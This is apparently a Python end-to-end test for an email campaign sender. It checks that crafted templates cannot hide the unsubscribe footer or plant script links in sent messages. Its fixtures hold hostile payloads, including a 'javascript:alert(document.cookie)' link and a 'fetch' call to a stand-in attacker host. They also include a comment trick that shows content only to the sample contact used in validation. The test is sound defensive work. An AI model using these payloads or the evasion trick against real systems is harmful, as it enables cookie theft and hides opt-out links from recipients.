"""No template can hide the exit footer or plant a script link: checked on every message on the SMTP wire."""

from __future__ import annotations

import re
from collections import defaultdict
from html.parser import HTMLParser

import pytest

from sender.models import ListMember
from tests.campaign_helpers import grant
from tests.factories import ContactFactory, ListFactory, PurposeFactory, WordingFactory

pytestmark = pytest.mark.e2e

# Each one was reproduced against a running instance (issue 7, findings 3 and 10). Left open, so that
# without sanitising the footer would end up inside the hiding element.
HOSTILE = {
    "hidden attribute": "<div hidden><p>Hello {{ contact.first_name }}</p>",
    "display none": '<div style="display:none"><p>Hello {{ contact.first_name }}</p>',
    "style element": (
        "<style>div, p, a, [role=contentinfo] { display: none !important }</style>"
        "<p>Hello {{ contact.first_name }}</p>"
    ),
    # The sample contact validation renders with is Camille: the comment opens for everyone else.
    "comment for all but the sample": (
        "<p>Hello {{ contact.first_name }}</p>{% if contact.first_name != 'Camille' %}<!--{% endif %}"
    ),
    "script link from an attribute": '<p><a href="{{ contact.attributes.offer }}">Your offer</a></p>',
}
_HIDING_STYLE = re.compile(r"display\s*:\s*none|visibility\s*:\s*hidden|opacity\s*:\s*0|font-size\s*:\s*0")
_VOID = frozenset({"area", "br", "col", "hr", "img", "input", "link", "meta", "source", "wbr"})
_NEVER_SHOWN = frozenset({"head", "title", "style", "script", "template", "noscript"})


class VisibleLinks(HTMLParser):
    """The href of every link a mail client would show: not inside a hidden element, comment or <style>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[tuple[str, bool]] = []
        self.links: list[str] = []

    def hidden(self) -> bool:
        return any(hidden for _, hidden in self.open)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        hides = (
            tag in _NEVER_SHOWN or "hidden" in values or bool(_HIDING_STYLE.search(values.get("style") or ""))
        )
        if tag == "a" and values.get("href") and not (self.hidden() or hides):
            self.links.append(values["href"] or "")
        if tag not in _VOID:
            self.open.append((tag, hides))

    def handle_endtag(self, tag: str) -> None:
        for at in range(len(self.open) - 1, -1, -1):
            if self.open[at][0] == tag:
                del self.open[at:]
                return


def visible_links(html: str) -> list[str]:
    """Links a reader sees in an HTML part; refuses parts where CSS or an open comment could hide any."""
    assert "<style" not in html.lower() and "<!--" not in html, "the part can hide content by CSS or comment"
    parser = VisibleLinks()
    parser.feed(html)
    parser.close()
    return parser.links


def test_every_sent_message_shows_its_exits_in_both_parts(stack):
    purpose = PurposeFactory()
    WordingFactory(purpose=purpose)
    lst = ListFactory()
    people = [
        ContactFactory(first_name="Jeanne", attributes={"offer": "javascript:alert(document.cookie)"}),
        ContactFactory(first_name="Paul", attributes={"offer": " JaVaScRiPt:fetch('//evil.example')"}),
    ]
    for person in people:
        grant(stack.session, person, purpose)
        stack.session.add(ListMember(list_id=lst.id, contact_id=person.id))
    stack.session.commit()
    campaigns = {}
    for trick, html in HOSTILE.items():
        body = {
            "name": trick,
            "purpose": purpose.slug,
            "lists": [lst.id],
            "subject": "Hello {{ contact.first_name }}",
            "body_text": "Hello {{ contact.first_name }}",
            "body_html": html,
        }
        created = stack.api("POST", "/campaigns", body)
        # Accepted at save time: none of these can hide anything any more.
        assert created.status_code == 201, created.get_json()
        campaigns[created.get_json()["id"]] = trick
        assert stack.api("POST", f"/campaigns/{created.get_json()['id']}/send").status_code == 202

    stack.worker()

    by_trick = defaultdict(list)
    for received in stack.mail.messages:
        message = received.message()
        campaign_id = int(re.search(r"\.c(\d+)\.", message["Message-ID"]).group(1))
        by_trick[campaigns[campaign_id]].append(message)
    assert {trick: len(messages) for trick, messages in by_trick.items()} == dict.fromkeys(HOSTILE, 2)
    for trick, messages in by_trick.items():
        for message in messages:
            (unsubscribe,) = re.findall(r"<(https://[^>]+)>", message["List-Unsubscribe"])
            text = message.get_body(("plain",)).get_content()
            html = message.get_body(("html",)).get_content()
            portal = re.search(r"https://sender\.test/p/\S+", text)
            assert portal is not None, trick
            assert unsubscribe in text, trick
            links = visible_links(html)
            assert unsubscribe in links and portal.group(0) in links, (trick, links)
            assert "javascript" not in html.lower(), trick
            assert all(link.startswith(("https://", "mailto:")) for link in links), (trick, links)
